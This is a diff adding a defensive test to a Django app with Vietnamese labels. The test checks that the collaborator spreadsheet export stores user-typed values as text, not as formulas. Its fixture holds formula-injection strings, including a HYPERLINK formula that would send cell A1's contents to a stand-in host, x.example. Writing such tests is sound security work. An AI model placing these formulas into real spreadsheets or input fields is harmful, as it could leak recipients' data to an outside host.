@@ -60,3 +60,23 @@ def test_the_template_has_the_import_headers_and_instructions(client_for, accoun
     assert sheet.max_row == 1  # no example row that could be imported by mistake
     assert any("Đang hoạt động" in str(v.formula1) for v in sheet.data_validations.dataValidation)
     assert guide.title == "Hướng dẫn" and guide.cell(row=2, column=1).value == "Mã đơn vị"
+
+
+RISKY = {"full_name": '=HYPERLINK("http://x.example/?"&A1,"Bấm")', "position": "+84 chuyên viên",
+         "decision_number": "-15/QĐ", "notes": "@SUM(A1:A9)"}
+
+
+def test_export_writes_what_people_typed_as_text_never_as_a_formula(client_for, accounts, units):
+    import io
+
+    from openpyxl import load_workbook
+
+    CollaboratorFactory(unit=units["BK"], **RISKY)
+    response = client_for(accounts["officer"]).get(reverse("collaborators:export"))
+    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
+    cells = {sheet.cell(row=1, column=c.column).value: c for c in sheet[2]}
+    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
+    for header, key in [("Họ và tên", "full_name"), ("Chức vụ", "position"),
+                        ("Số quyết định", "decision_number"), ("Ghi chú", "notes")]:
+        assert cells[header].value == RISKY[key] and cells[header].data_type == "s"
+        assert cells[header].quotePrefix  # retyping the cell in Excel keeps it text
